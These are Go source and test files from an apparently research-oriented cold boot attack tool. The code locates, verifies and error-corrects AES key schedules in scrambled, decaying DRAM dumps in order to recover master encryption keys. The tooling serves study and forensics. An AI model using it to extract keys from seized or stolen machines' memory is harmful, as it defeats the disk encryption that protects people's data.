func KeyLitmusDistance(block []byte) int {
	if len(block) != BlockBytes {
		panic("core: litmus block must be 64 bytes")
	}
	total := 0
	for i := 0; i < BlockBytes; i += 16 {
		w0 := bitutil.Word16(block, i)
		w1 := bitutil.Word16(block, i+2)
		w2 := bitutil.Word16(block, i+4)
		w3 := bitutil.Word16(block, i+6)
		w4 := bitutil.Word16(block, i+8)
		w5 := bitutil.Word16(block, i+10)
		w6 := bitutil.Word16(block, i+12)
		w7 := bitutil.Word16(block, i+14)
		total += bitutil.HammingDistance16(w1^w2, w5^w6)
		total += bitutil.HammingDistance16(w0^w3, w4^w7)
		total += bitutil.HammingDistance16(w0^w2, w4^w6)
		total += bitutil.HammingDistance16(w0^w1, w4^w5)
	}
	return total
}

// PassesKeyLitmus reports whether block is within tolerance bit flips of
// satisfying all the scrambler-key invariants.
func PassesKeyLitmus(block []byte, tolerance int) bool {
	return KeyLitmusDistance(block) <= tolerance
}

// DefaultLitmusTolerance is the default bit-flip budget for the key litmus
// test. A decayed key copy with f flipped bits scores at most 3f (each
// 16-bit word participates in up to three of the four group equations), so
// 16 tolerates ~5-8 flips per key sighting — about 1.5% block decay — while
// random blocks (expected distance ~128, standard deviation ~8) essentially
// never pass.
const DefaultLitmusTolerance = 16
