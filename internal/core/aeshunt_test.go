package core

import (
	"bytes"
	"math/rand"
	"testing"

	"coldboot/internal/aes"
)

// plantSchedule builds a 64-byte block whose contents are schedule bytes
// [byteOff, byteOff+64) of the expansion of key, returning the block and
// the schedule.
func plantSchedule(t *testing.T, key []byte, byteOff int) ([]byte, []byte) {
	t.Helper()
	sched := aes.ExpandKeyBytes(key)
	if byteOff%4 != 0 {
		t.Fatal("schedules are word aligned in memory")
	}
	block := make([]byte, BlockBytes)
	copy(block, sched[byteOff:byteOff+BlockBytes])
	return block, sched
}

func TestAESLitmusFindsPlantedSchedule256(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	key := make([]byte, 32)
	rng.Read(key)
	// A block holding schedule bytes 64..128 (words 16..31).
	block, _ := plantSchedule(t, key, 64)
	hits := AESLitmus(block, aes.AES256, 0)
	if len(hits) == 0 {
		t.Fatal("no hits on planted schedule block")
	}
	// The true anchoring (window at word 0, schedule index 16) must appear.
	foundTrue := false
	for _, h := range hits {
		if h.WordOffset == 0 && h.ScheduleIndex == 16 && h.Distance == 0 {
			foundTrue = true
		}
	}
	if !foundTrue {
		t.Errorf("true anchor missing from hits: %+v", hits)
	}
}

func TestAESLitmusMasterRecovery(t *testing.T) {
	rng := rand.New(rand.NewSource(2))
	for _, v := range []aes.Variant{aes.AES128, aes.AES192, aes.AES256} {
		key := make([]byte, v.KeyBytes())
		rng.Read(key)
		block, _ := plantSchedule(t, key, 64)
		hits := AESLitmus(block, v, 0)
		if len(hits) == 0 {
			t.Fatalf("%v: no hits", v)
		}
		recovered := false
		for _, h := range hits {
			if bytes.Equal(MasterFromHit(block, h, v), key) {
				recovered = true
				break
			}
		}
		if !recovered {
			t.Errorf("%v: no hit recovered the master key", v)
		}
	}
}

func TestAESLitmusAllWordAlignments(t *testing.T) {
	// The schedule can start at any word offset within a block; the true
	// anchor must be found for all 16 phases.
	rng := rand.New(rand.NewSource(3))
	key := make([]byte, 32)
	rng.Read(key)
	sched := aes.ExpandKeyBytes(key)
	for phase := 0; phase < 16; phase++ {
		// Block contains schedule bytes starting at 64-4*phase... choose a
		// block one block into the table to keep indices valid.
		start := 64 + 4*phase
		block := make([]byte, BlockBytes)
		copy(block, sched[start:start+BlockBytes])
		hits := AESLitmus(block, aes.AES256, 0)
		ok := false
		for _, h := range hits {
			if bytes.Equal(MasterFromHit(block, h, aes.AES256), key) {
				ok = true
				break
			}
		}
		if !ok {
			t.Errorf("phase %d: master not recovered", phase)
		}
	}
}

func TestAESLitmusToleratesVerifyDecay(t *testing.T) {
	rng := rand.New(rand.NewSource(4))
	key := make([]byte, 32)
	rng.Read(key)
	block, _ := plantSchedule(t, key, 64)
	// Flip 3 bits in the verification region (beyond the first 32 bytes).
	for i := 0; i < 3; i++ {
		bit := 32*8 + rng.Intn(32*8)
		block[bit/8] ^= 1 << uint(bit%8)
	}
	hits := AESLitmus(block, aes.AES256, DefaultAESTolerance)
	ok := false
	for _, h := range hits {
		if h.WordOffset == 0 && bytes.Equal(MasterFromHit(block, h, aes.AES256), key) {
			ok = true
		}
	}
	if !ok {
		t.Error("decayed verify region defeated the litmus despite tolerance")
	}
}

func TestAESLitmusRejectsRandomBlocks(t *testing.T) {
	rng := rand.New(rand.NewSource(5))
	block := make([]byte, BlockBytes)
	total := 0
	for trial := 0; trial < 3000; trial++ {
		rng.Read(block)
		total += len(AESLitmus(block, aes.AES256, DefaultAESTolerance))
	}
	if total > 0 {
		t.Errorf("%d spurious hits on random blocks", total)
	}
}

func TestAESLitmusZeroBlockHitsAreDegenerate(t *testing.T) {
	// Zero blocks produce hits in transform-free phases; they must all be
	// flagged degenerate so the pipeline can skip them.
	block := make([]byte, BlockBytes)
	hits := AESLitmus(block, aes.AES256, 0)
	for _, h := range hits {
		if !windowDegenerate(block, h, aes.AES256.Nk()) {
			t.Fatalf("zero-block hit %+v not flagged degenerate", h)
		}
	}
}

func TestTableStart(t *testing.T) {
	h := ScheduleHit{WordOffset: 2, ScheduleIndex: 18}
	// block 10: byte 640; window at word 2 = byte 648; schedule word 18 =
	// schedule byte 72 → table starts at 648-72 = 576.
	if got := h.TableStart(10); got != 576 {
		t.Errorf("TableStart = %d, want 576", got)
	}
}

func TestScheduleStepMatchesExpandKey(t *testing.T) {
	// The hunt's inline recurrence must agree with the reference expansion.
	rng := rand.New(rand.NewSource(6))
	for _, v := range []aes.Variant{aes.AES128, aes.AES192, aes.AES256} {
		key := make([]byte, v.KeyBytes())
		rng.Read(key)
		w := aes.ExpandKey(key)
		nk := v.Nk()
		for i := nk; i < len(w); i++ {
			got := w[i-nk] ^ scheduleStep(w[i-1], i, nk)
			if got != w[i] {
				t.Fatalf("%v: inline recurrence wrong at word %d", v, i)
			}
		}
	}
}

func TestRconWordBounds(t *testing.T) {
	if rconWord(0) != 0 || rconWord(100) != 0 {
		t.Error("out-of-range rcon should be 0")
	}
	if rconWord(1) != 0x01000000 || rconWord(10) != 0x36000000 {
		t.Error("rcon values wrong")
	}
}

func BenchmarkAESLitmusPerBlock(b *testing.B) {
	rng := rand.New(rand.NewSource(7))
	block := make([]byte, BlockBytes)
	rng.Read(block)
	b.SetBytes(BlockBytes)
	for i := 0; i < b.N; i++ {
		AESLitmus(block, aes.AES256, DefaultAESTolerance)
	}
}
