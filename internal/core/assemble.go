package core

import (
	"encoding/binary"
	"math/bits"

	"coldboot/internal/aes"
)

// KeyDirectory returns the candidate scrambler keys for a given block index
// of the dump. The stride-based directory (from MineResult.KeysByResidue)
// returns the one or two keys mined for the block's address class; the
// exhaustive directory returns every mined key, which is the paper's
// literal step 2 ("descramble individual memory blocks ... with all keys").
//
// The returned slices are READ-ONLY and shared between calls (the same
// contract as Scrambler.KeyAt): the hunt queries the directory once per
// (block, key) pair and per verification chunk, so directories must not
// allocate per call.
type KeyDirectory func(blockIdx int) [][]byte

// AllKeysDirectory builds the exhaustive directory.
func AllKeysDirectory(mine *MineResult) KeyDirectory {
	keys := make([][]byte, len(mine.Keys))
	for i, k := range mine.Keys {
		keys[i] = k.Key
	}
	return func(int) [][]byte { return keys }
}

// ResidueDirectory builds the stride-based directory. The per-residue key
// tables are built once here — lookups return the shared slice for the
// block's address class (read-only, like every KeyDirectory).
func ResidueDirectory(mine *MineResult, stride int) KeyDirectory {
	// Two passes over the sightings: count each residue's key-table size,
	// carve the tables out of one shared backing slab, then fill. The stride
	// is typically thousands of residues with one key each, so per-residue
	// append would cost one allocation per residue; the slab costs four for
	// the whole directory.
	//
	// seen[r] marks the last key index that contributed to residue r, so a
	// key sighted at many positions of one class is listed once — the same
	// dedup KeysByResidue performs, preserving its key ordering.
	seen := make([]int, stride)
	counts := make([]int, stride)
	for i := range seen {
		seen[i] = -1
	}
	total := 0
	for ki, k := range mine.Keys {
		for _, p := range k.Positions {
			r := p % stride
			if seen[r] != ki {
				seen[r] = ki
				counts[r]++
				total++
			}
		}
	}
	slab := make([][]byte, total)
	byRes := make([][][]byte, stride)
	off := 0
	for r, n := range counts {
		byRes[r] = slab[off : off : off+n]
		off += n
		seen[r] = -1
	}
	for ki, k := range mine.Keys {
		for _, p := range k.Positions {
			r := p % stride
			if seen[r] != ki {
				seen[r] = ki
				byRes[r] = append(byRes[r], k.Key)
			}
		}
	}
	return func(blockIdx int) [][]byte {
		return byRes[blockIdx%stride]
	}
}

// VerifySchedule scores a candidate master key against the dump: the master
// is expanded and the resulting schedule is compared, block by block,
// against the descrambled dump contents at tableStart, taking the best
// (minimum-distance) candidate key for each covered block. The score is the
// fraction of schedule bits that match.
//
// A correct master scores near 1.0 (exactly 1.0 on an undecayed dump); an
// incorrect one scores ~0.5 (random agreement). Blocks with no mined key
// count as fully mismatched, so low mining coverage degrades the score
// honestly instead of silently passing.
//
//lint:ignore ctxthread bounded per-candidate scoring over one schedule-sized region, not a dump-scale scan; cancellation lives in the calling stage
func VerifySchedule(dump []byte, keys KeyDirectory, master []byte, tableStart int, v aes.Variant) float64 {
	var buf [aes.MaxScheduleBytes]byte
	return scheduleScore(dump, keys, aes.ExpandKeyBytesInto(buf[:0], master), tableStart)
}

// scheduleScore is the verification kernel: it scores an ALREADY-EXPANDED
// schedule against the dump. The hunt calls it with cached schedule bytes
// (ScheduleCache) or scratch-expanded candidates, so the per-candidate path
// performs no allocation.
func scheduleScore(dump []byte, keys KeyDirectory, schedule []byte, tableStart int) float64 {
	if tableStart < 0 || tableStart+len(schedule) > len(dump) {
		return 0
	}
	totalBits := len(schedule) * 8
	mismatched := 0
	pos := 0
	for pos < len(schedule) {
		addr := tableStart + pos
		blockIdx := addr / BlockBytes
		inOff := addr % BlockBytes
		chunk := BlockBytes - inOff
		if chunk > len(schedule)-pos {
			chunk = len(schedule) - pos
		}
		stored := dump[blockIdx*BlockBytes+inOff : blockIdx*BlockBytes+inOff+chunk]
		want := schedule[pos : pos+chunk]
		best := chunk * 8
		for _, key := range keys(blockIdx) {
			d := xorDistance(stored, key[inOff:inOff+chunk], want)
			if d < best {
				best = d
			}
		}
		mismatched += best
		pos += chunk
	}
	return 1 - float64(mismatched)/float64(totalBits)
}

// xorDistance returns hamming(stored ^ key, want), popcounting eight bytes
// per step with a byte tail for the unaligned chunk ends.
func xorDistance(stored, key, want []byte) int {
	d := 0
	i := 0
	for ; i+8 <= len(stored); i += 8 {
		d += bits.OnesCount64(binary.LittleEndian.Uint64(stored[i:]) ^
			binary.LittleEndian.Uint64(key[i:]) ^
			binary.LittleEndian.Uint64(want[i:]))
	}
	for ; i < len(stored); i++ {
		d += bits.OnesCount8(stored[i] ^ key[i] ^ want[i])
	}
	return d
}

// repairer bundles the state the flip-repair searches share: a mutable
// working copy of the descrambled block plus the scratch the candidate
// evaluations run on. Methods replace the seed's per-call closures so the
// per-flip evaluation performs no allocation.
type repairer struct {
	rs         *repairScratch
	dump       []byte
	keys       KeyDirectory
	hit        ScheduleHit
	nk         int
	v          aes.Variant
	tableStart int
	work       []byte // rs.work[:BlockBytes], the flip target
}

func newRepairer(rs *repairScratch, dump []byte, keys KeyDirectory, block []byte, blockIdx int, hit ScheduleHit, v aes.Variant) repairer {
	return repairer{
		rs:         rs,
		dump:       dump,
		keys:       keys,
		hit:        hit,
		nk:         v.Nk(),
		v:          v,
		tableStart: hit.TableStart(blockIdx),
		work:       append(rs.work[:0], block...),
	}
}

// tryMaster derives the master implied by the current work window and
// scores its full schedule. The returned master aliases rs.master.
func (r *repairer) tryMaster() ([]byte, float64) {
	words := aes.BytesToWordsInto(r.rs.winWords[:0], r.work[4*r.hit.WordOffset:4*r.hit.WordOffset+4*r.nk])
	master := aes.RecoverMasterKeyInto(r.rs.master[:0], words, r.hit.ScheduleIndex, r.v)
	sched := aes.ExpandKeyBytesInto(r.rs.sched[:0], master)
	return master, scheduleScore(r.dump, r.keys, sched, r.tableStart)
}

// consistent rechecks the hit's own in-block prediction on the edited work
// block (the cheap pruner that gates full-schedule verification).
func (r *repairer) consistent() bool {
	words := aes.BytesToWordsInto(r.rs.blockWords[:0], r.work)
	_, ok := predictAndCompare(words, r.hit.WordOffset, r.hit.ScheduleIndex, r.nk,
		r.hit.VerifiedWords, DefaultAESTolerance)
	return ok
}

func (r *repairer) flip(bit int) { r.work[bit/8] ^= 1 << uint(bit%8) }

// RepairWindow attempts to fix bit decay inside a hit's schedule window by
// flipping up to maxFlips bits (1 or 2) and returning the repaired master
// with the best full-schedule verification score. This recovers anchors
// whose verification region was intact (so the hit was detected) but whose
// window words had decayed (so the derived master was garbage).
//
// Each flip candidate is first re-checked against the hit's own in-block
// prediction (cheap); only candidates that keep the prediction consistent
// pay for a full-schedule verification.
//
// block is the descrambled 64-byte block containing the hit.
//
//lint:ignore ctxthread bounded per-hit repair (flip budget caps the work); cancellation lives in the calling stage
func RepairWindow(dump []byte, keys KeyDirectory, block []byte, blockIdx int, hit ScheduleHit, v aes.Variant, maxFlips int, minScore float64) ([]byte, float64) {
	var rs repairScratch
	defer rs.wipe()
	m, s := repairWindowScratch(&rs, dump, keys, block, blockIdx, hit, v, maxFlips, minScore)
	return append([]byte{}, m...), s
}

// repairWindowScratch is RepairWindow on caller scratch. The returned
// master aliases rs.best and is valid until the scratch is reused.
func repairWindowScratch(rs *repairScratch, dump []byte, keys KeyDirectory, block []byte, blockIdx int, hit ScheduleHit, v aes.Variant, maxFlips int, minScore float64) ([]byte, float64) {
	r := newRepairer(rs, dump, keys, block, blockIdx, hit, v)

	m, bestScore := r.tryMaster()
	bestMaster := append(rs.best[:0], m...)
	winLo := 4 * hit.WordOffset * 8 // window bit range within the block
	winHi := winLo + 4*r.nk*8
	if maxFlips >= 1 {
		for b1 := winLo; b1 < winHi; b1++ {
			r.flip(b1)
			if r.consistent() {
				if m, s := r.tryMaster(); s > bestScore {
					bestMaster, bestScore = append(rs.best[:0], m...), s
				}
			}
			if maxFlips >= 2 && bestScore < minScore {
				for b2 := b1 + 1; b2 < winHi; b2++ {
					r.flip(b2)
					if r.consistent() {
						if m, s := r.tryMaster(); s > bestScore {
							bestMaster, bestScore = append(rs.best[:0], m...), s
						}
					}
					r.flip(b2)
					if bestScore >= minScore {
						break
					}
				}
			}
			r.flip(b1)
			if bestScore >= minScore {
				break
			}
		}
	}
	return bestMaster, bestScore
}

// windowDegenerate reports whether a hit's window is trivial content that
// produces meaningless masters: few distinct words (zeroed or pattern
// memory), or nearly-all-zero / nearly-all-one bits (decayed zero blocks
// descrambled with their key leave a handful of stray bits that defeat an
// exact emptiness check). Real schedule words are high-entropy, so none of
// these conditions ever hold for a genuine hit.
func windowDegenerate(block []byte, hit ScheduleHit, nk int) bool {
	var w [BlockBytes / 4]uint32
	return windowDegenerateWords(aes.BytesToWordsInto(w[:0], block), hit, nk)
}

// windowDegenerateWords is windowDegenerate on a pre-converted word view
// (what the hunt workers hold).
func windowDegenerateWords(words []uint32, hit ScheduleHit, nk int) bool {
	win := words[hit.WordOffset : hit.WordOffset+nk]
	// Distinct-word count by pairwise compare: nk <= 8, so this beats any
	// set structure and allocates nothing.
	distinct := 0
	for i, w := range win {
		dup := false
		for k := 0; k < i; k++ {
			if win[k] == w {
				dup = true
				break
			}
		}
		if !dup {
			distinct++
		}
	}
	if distinct <= nk/2 {
		return true
	}
	weight := 0
	for _, w := range win {
		weight += bits.OnesCount32(w)
	}
	total := nk * 32
	return weight < total/8 || weight > total*7/8
}

// RefineMaster corrects residual bit errors in a recovered master key by
// exploiting the AES key schedule's redundancy. The expansion recurrence is
// linear except at the subword positions, so a flipped bit in most master
// words propagates UNCHANGED along its word chain (schedule indices
// i ≡ c mod Nk) without ever feeding a transform: the corrupted master
// still verifies at ~0.99 — convincingly, but wrongly. The residual between
// the candidate's expansion and the observed (descrambled) schedule then
// repeats the same flip pattern down the whole chain, so a per-chain
// bitwise majority vote over the residuals recovers the flip mask exactly;
// XORing it into the master word fixes the key. Iterated until no chain
// improves the verification score.
//
// This is the schedule-redundancy error correction that lets the attack
// tolerate decay even when no single anchor window survived intact.
//
//lint:ignore ctxthread bounded per-candidate consensus over one schedule-sized region; cancellation lives in the calling stage
func RefineMaster(dump []byte, keys KeyDirectory, master []byte, tableStart int, v aes.Variant) ([]byte, float64) {
	var rs repairScratch
	defer rs.wipe()
	m, s := refineMasterScratch(&rs, dump, keys, master, tableStart, v)
	return append([]byte{}, m...), s
}

// refineMasterScratch is RefineMaster on caller scratch. The returned
// master aliases rs.best and is valid until the scratch is reused; master
// may itself alias rs.best or rs.master from an earlier scratch call.
func refineMasterScratch(rs *repairScratch, dump []byte, keys KeyDirectory, master []byte, tableStart int, v aes.Variant) ([]byte, float64) {
	best := append(rs.best[:0], master...)
	bestScore := scheduleScore(dump, keys, aes.ExpandKeyBytesInto(rs.sched[:0], best), tableStart)
	if bestScore == 0 {
		return best, bestScore
	}
	nk := v.Nk()
	// Phase 1 — window consensus: the verified candidate tells us where the
	// schedule lies, so re-derive the master from EVERY Nk-word window of
	// the observed (descrambled) table and keep the best verifier. Sparse
	// decay almost surely leaves at least one window intact, and a clean
	// window yields the exact master.
	observed := observedScheduleWordsInto(rs, dump, keys, aes.ExpandKeyBytesInto(rs.ref[:0], best), tableStart)
	for s := 0; s+nk <= len(observed); s++ {
		cand := aes.RecoverMasterKeyInto(rs.master[:0], observed[s:s+nk], s, v)
		if sc := scheduleScore(dump, keys, aes.ExpandKeyBytesInto(rs.sched[:0], cand), tableStart); sc > bestScore {
			best, bestScore = append(rs.best[:0], cand...), sc
		}
	}
	// Phase 2 — chain-vote error correction for the no-clean-window case.
	for iter := 0; iter < 4; iter++ {
		sched := aes.ExpandKeyInto(rs.refWords[:0], best)
		observed := observedScheduleWordsInto(rs, dump, keys, aes.WordsToBytesInto(rs.ref[:0], sched), tableStart)
		improved := false
		for c := 0; c < nk; c++ {
			var votes [32]int
			count := 0
			for i := c; i < len(sched); i += nk {
				r := sched[i] ^ observed[i]
				for b := 0; b < 32; b++ {
					if r>>uint(b)&1 == 1 {
						votes[b]++
					}
				}
				count++
			}
			var fix uint32
			for b := 0; b < 32; b++ {
				if votes[b]*2 > count {
					fix |= 1 << uint(b)
				}
			}
			if fix == 0 {
				continue
			}
			cand := append(rs.master[:0], best...)
			w := aes.BytesToWordsInto(rs.winWords[:0], cand)
			w[c] ^= fix
			cand = aes.WordsToBytesInto(rs.master[:0], w)
			if s := scheduleScore(dump, keys, aes.ExpandKeyBytesInto(rs.sched[:0], cand), tableStart); s > bestScore {
				best, bestScore = append(rs.best[:0], cand...), s
				improved = true
			}
		}
		if !improved {
			break
		}
	}
	return best, bestScore
}

// observedScheduleWordsInto descrambles the dump region holding the
// candidate schedule, choosing for each block the directory key that best
// matches the reference expansion (the same minimum-distance choice
// scheduleScore makes), and returns the observed schedule words on
// rs.observedWords.
func observedScheduleWordsInto(rs *repairScratch, dump []byte, keys KeyDirectory, reference []byte, tableStart int) []uint32 {
	out := rs.observed[:len(reference)]
	pos := 0
	for pos < len(reference) {
		addr := tableStart + pos
		blockIdx := addr / BlockBytes
		inOff := addr % BlockBytes
		chunk := BlockBytes - inOff
		if chunk > len(reference)-pos {
			chunk = len(reference) - pos
		}
		stored := dump[blockIdx*BlockBytes+inOff : blockIdx*BlockBytes+inOff+chunk]
		want := reference[pos : pos+chunk]
		var bestKey []byte
		bestD := 1 << 30
		for _, key := range keys(blockIdx) {
			if d := xorDistance(stored, key[inOff:inOff+chunk], want); d < bestD {
				bestD, bestKey = d, key
			}
		}
		for i := 0; i < chunk; i++ {
			if bestKey != nil {
				out[pos+i] = stored[i] ^ bestKey[inOff+i]
			} else {
				out[pos+i] = want[i] // uncovered block: neutral (no votes)
			}
		}
		pos += chunk
	}
	return aes.BytesToWordsInto(rs.observedWords[:0], out)
}

// ExtractRemnant recovers the scrambler key of an uncovered block adjacent
// to a verified schedule: once the master is known, the expected plaintext
// at the block is known, so key = stored ^ expected. This is the inverse of
// mining and corresponds to the paper's boundary-block step — pulling the
// remaining key bytes out of the blocks at the edges of the located table.
func ExtractRemnant(dump []byte, master []byte, tableStart int, blockIdx int, v aes.Variant) []byte {
	schedule := aes.ExpandKeyBytes(master)
	blockStart := blockIdx * BlockBytes
	key := make([]byte, BlockBytes)
	known := false
	for i := 0; i < BlockBytes; i++ {
		p := blockStart + i - tableStart
		if p >= 0 && p < len(schedule) {
			key[i] = dump[blockStart+i] ^ schedule[p]
			known = true
		}
	}
	if !known {
		return nil
	}
	return key
}
