package core

import (
	"encoding/binary"
	"math/bits"

	"coldboot/internal/aes"
	"coldboot/internal/bitutil"
)

// KeyDirectory returns the candidate scrambler keys for a given block index
// of the dump. The stride-based directory (from MineResult.KeysByResidue)
// returns the one or two keys mined for the block's address class; the
// exhaustive directory returns every mined key, which is the paper's
// literal step 2 ("descramble individual memory blocks ... with all keys").
type KeyDirectory func(blockIdx int) [][]byte

// AllKeysDirectory builds the exhaustive directory.
func AllKeysDirectory(mine *MineResult) KeyDirectory {
	keys := make([][]byte, len(mine.Keys))
	for i, k := range mine.Keys {
		keys[i] = k.Key
	}
	return func(int) [][]byte { return keys }
}

// ResidueDirectory builds the stride-based directory.
func ResidueDirectory(mine *MineResult, stride int) KeyDirectory {
	byRes := mine.KeysByResidue(stride)
	return func(blockIdx int) [][]byte {
		mk := byRes[blockIdx%stride]
		keys := make([][]byte, len(mk))
		for i, k := range mk {
			keys[i] = k.Key
		}
		return keys
	}
}

// VerifySchedule scores a candidate master key against the dump: the master
// is expanded and the resulting schedule is compared, block by block,
// against the descrambled dump contents at tableStart, taking the best
// (minimum-distance) candidate key for each covered block. The score is the
// fraction of schedule bits that match.
//
// A correct master scores near 1.0 (exactly 1.0 on an undecayed dump); an
// incorrect one scores ~0.5 (random agreement). Blocks with no mined key
// count as fully mismatched, so low mining coverage degrades the score
// honestly instead of silently passing.
//
//lint:ignore ctxthread bounded per-candidate scoring over one schedule-sized region, not a dump-scale scan; cancellation lives in the calling stage
func VerifySchedule(dump []byte, keys KeyDirectory, master []byte, tableStart int, v aes.Variant) float64 {
	schedule := aes.ExpandKeyBytes(master)
	if tableStart < 0 || tableStart+len(schedule) > len(dump) {
		return 0
	}
	totalBits := len(schedule) * 8
	mismatched := 0
	pos := 0
	for pos < len(schedule) {
		addr := tableStart + pos
		blockIdx := addr / BlockBytes
		inOff := addr % BlockBytes
		chunk := BlockBytes - inOff
		if chunk > len(schedule)-pos {
			chunk = len(schedule) - pos
		}
		stored := dump[blockIdx*BlockBytes+inOff : blockIdx*BlockBytes+inOff+chunk]
		want := schedule[pos : pos+chunk]
		best := chunk * 8
		for _, key := range keys(blockIdx) {
			d := xorDistance(stored, key[inOff:inOff+chunk], want)
			if d < best {
				best = d
			}
		}
		mismatched += best
		pos += chunk
	}
	return 1 - float64(mismatched)/float64(totalBits)
}

// xorDistance returns hamming(stored ^ key, want), popcounting eight bytes
// per step with a byte tail for the unaligned chunk ends.
func xorDistance(stored, key, want []byte) int {
	d := 0
	i := 0
	for ; i+8 <= len(stored); i += 8 {
		d += bits.OnesCount64(binary.LittleEndian.Uint64(stored[i:]) ^
			binary.LittleEndian.Uint64(key[i:]) ^
			binary.LittleEndian.Uint64(want[i:]))
	}
	for ; i < len(stored); i++ {
		d += bits.OnesCount8(stored[i] ^ key[i] ^ want[i])
	}
	return d
}

// RepairWindow attempts to fix bit decay inside a hit's schedule window by
// flipping up to maxFlips bits (1 or 2) and returning the repaired master
// with the best full-schedule verification score. This recovers anchors
// whose verification region was intact (so the hit was detected) but whose
// window words had decayed (so the derived master was garbage).
//
// Each flip candidate is first re-checked against the hit's own in-block
// prediction (cheap); only candidates that keep the prediction consistent
// pay for a full-schedule verification.
//
// block is the descrambled 64-byte block containing the hit.
//
//lint:ignore ctxthread bounded per-hit repair (flip budget caps the work); cancellation lives in the calling stage
func RepairWindow(dump []byte, keys KeyDirectory, block []byte, blockIdx int, hit ScheduleHit, v aes.Variant, maxFlips int, minScore float64) ([]byte, float64) {
	nk := v.Nk()
	tableStart := hit.TableStart(blockIdx)
	work := make([]byte, len(block))
	copy(work, block)

	tryMaster := func() ([]byte, float64) {
		words := aes.BytesToWords(work[4*hit.WordOffset : 4*hit.WordOffset+4*nk])
		master := aes.RecoverMasterKey(words, hit.ScheduleIndex, v)
		return master, VerifySchedule(dump, keys, master, tableStart, v)
	}
	consistent := func() bool {
		words := aes.BytesToWords(work)
		_, ok := predictAndCompare(words, hit.WordOffset, hit.ScheduleIndex, nk,
			hit.VerifiedWords, DefaultAESTolerance)
		return ok
	}

	bestMaster, bestScore := tryMaster()
	winLo := 4 * hit.WordOffset * 8 // window bit range within the block
	winHi := winLo + 4*nk*8
	flip := func(bit int) { work[bit/8] ^= 1 << uint(bit%8) }
	if maxFlips >= 1 {
		for b1 := winLo; b1 < winHi; b1++ {
			flip(b1)
			if consistent() {
				if m, s := tryMaster(); s > bestScore {
					bestMaster, bestScore = m, s
				}
			}
			if maxFlips >= 2 && bestScore < minScore {
				for b2 := b1 + 1; b2 < winHi; b2++ {
					flip(b2)
					if consistent() {
						if m, s := tryMaster(); s > bestScore {
							bestMaster, bestScore = m, s
						}
					}
					flip(b2)
					if bestScore >= minScore {
						break
					}
				}
			}
			flip(b1)
			if bestScore >= minScore {
				break
			}
		}
	}
	return bestMaster, bestScore
}

// windowDegenerate reports whether a hit's window is trivial content that
// produces meaningless masters: few distinct words (zeroed or pattern
// memory), or nearly-all-zero / nearly-all-one bits (decayed zero blocks
// descrambled with their key leave a handful of stray bits that defeat an
// exact emptiness check). Real schedule words are high-entropy, so none of
// these conditions ever hold for a genuine hit.
func windowDegenerate(block []byte, hit ScheduleHit, nk int) bool {
	win := block[4*hit.WordOffset : 4*hit.WordOffset+4*nk]
	words := aes.BytesToWords(win)
	distinct := make(map[uint32]bool, len(words))
	for _, w := range words {
		distinct[w] = true
	}
	if len(distinct) <= nk/2 {
		return true
	}
	weight := bitutil.HammingWeight(win)
	total := len(win) * 8
	return weight < total/8 || weight > total*7/8
}

// RefineMaster corrects residual bit errors in a recovered master key by
// exploiting the AES key schedule's redundancy. The expansion recurrence is
// linear except at the subword positions, so a flipped bit in most master
// words propagates UNCHANGED along its word chain (schedule indices
// i ≡ c mod Nk) without ever feeding a transform: the corrupted master
// still verifies at ~0.99 — convincingly, but wrongly. The residual between
// the candidate's expansion and the observed (descrambled) schedule then
// repeats the same flip pattern down the whole chain, so a per-chain
// bitwise majority vote over the residuals recovers the flip mask exactly;
// XORing it into the master word fixes the key. Iterated until no chain
// improves the verification score.
//
// This is the schedule-redundancy error correction that lets the attack
// tolerate decay even when no single anchor window survived intact.
//
//lint:ignore ctxthread bounded per-candidate consensus over one schedule-sized region; cancellation lives in the calling stage
func RefineMaster(dump []byte, keys KeyDirectory, master []byte, tableStart int, v aes.Variant) ([]byte, float64) {
	best := append([]byte{}, master...)
	bestScore := VerifySchedule(dump, keys, best, tableStart, v)
	if bestScore == 0 {
		return best, bestScore
	}
	nk := v.Nk()
	// Phase 1 — window consensus: the verified candidate tells us where the
	// schedule lies, so re-derive the master from EVERY Nk-word window of
	// the observed (descrambled) table and keep the best verifier. Sparse
	// decay almost surely leaves at least one window intact, and a clean
	// window yields the exact master.
	observed := observedScheduleWords(dump, keys, aes.ExpandKeyBytes(best), tableStart)
	for s := 0; s+nk <= len(observed); s++ {
		cand := aes.RecoverMasterKey(observed[s:s+nk], s, v)
		if sc := VerifySchedule(dump, keys, cand, tableStart, v); sc > bestScore {
			best, bestScore = cand, sc
		}
	}
	// Phase 2 — chain-vote error correction for the no-clean-window case.
	for iter := 0; iter < 4; iter++ {
		sched := aes.ExpandKey(best)
		observed := observedScheduleWords(dump, keys, aes.WordsToBytes(sched), tableStart)
		improved := false
		for c := 0; c < nk; c++ {
			var votes [32]int
			count := 0
			for i := c; i < len(sched); i += nk {
				r := sched[i] ^ observed[i]
				for b := 0; b < 32; b++ {
					if r>>uint(b)&1 == 1 {
						votes[b]++
					}
				}
				count++
			}
			var fix uint32
			for b := 0; b < 32; b++ {
				if votes[b]*2 > count {
					fix |= 1 << uint(b)
				}
			}
			if fix == 0 {
				continue
			}
			cand := append([]byte{}, best...)
			w := aes.BytesToWords(cand)
			w[c] ^= fix
			cand = aes.WordsToBytes(w)
			if s := VerifySchedule(dump, keys, cand, tableStart, v); s > bestScore {
				best, bestScore = cand, s
				improved = true
			}
		}
		if !improved {
			break
		}
	}
	return best, bestScore
}

// observedScheduleWords descrambles the dump region holding the candidate
// schedule, choosing for each block the directory key that best matches the
// reference expansion (the same minimum-distance choice VerifySchedule
// makes), and returns the observed schedule words.
func observedScheduleWords(dump []byte, keys KeyDirectory, reference []byte, tableStart int) []uint32 {
	out := make([]byte, len(reference))
	pos := 0
	for pos < len(reference) {
		addr := tableStart + pos
		blockIdx := addr / BlockBytes
		inOff := addr % BlockBytes
		chunk := BlockBytes - inOff
		if chunk > len(reference)-pos {
			chunk = len(reference) - pos
		}
		stored := dump[blockIdx*BlockBytes+inOff : blockIdx*BlockBytes+inOff+chunk]
		want := reference[pos : pos+chunk]
		var bestKey []byte
		bestD := 1 << 30
		for _, key := range keys(blockIdx) {
			if d := xorDistance(stored, key[inOff:inOff+chunk], want); d < bestD {
				bestD, bestKey = d, key
			}
		}
		for i := 0; i < chunk; i++ {
			if bestKey != nil {
				out[pos+i] = stored[i] ^ bestKey[inOff+i]
			} else {
				out[pos+i] = want[i] // uncovered block: neutral (no votes)
			}
		}
		pos += chunk
	}
	return aes.BytesToWords(out)
}

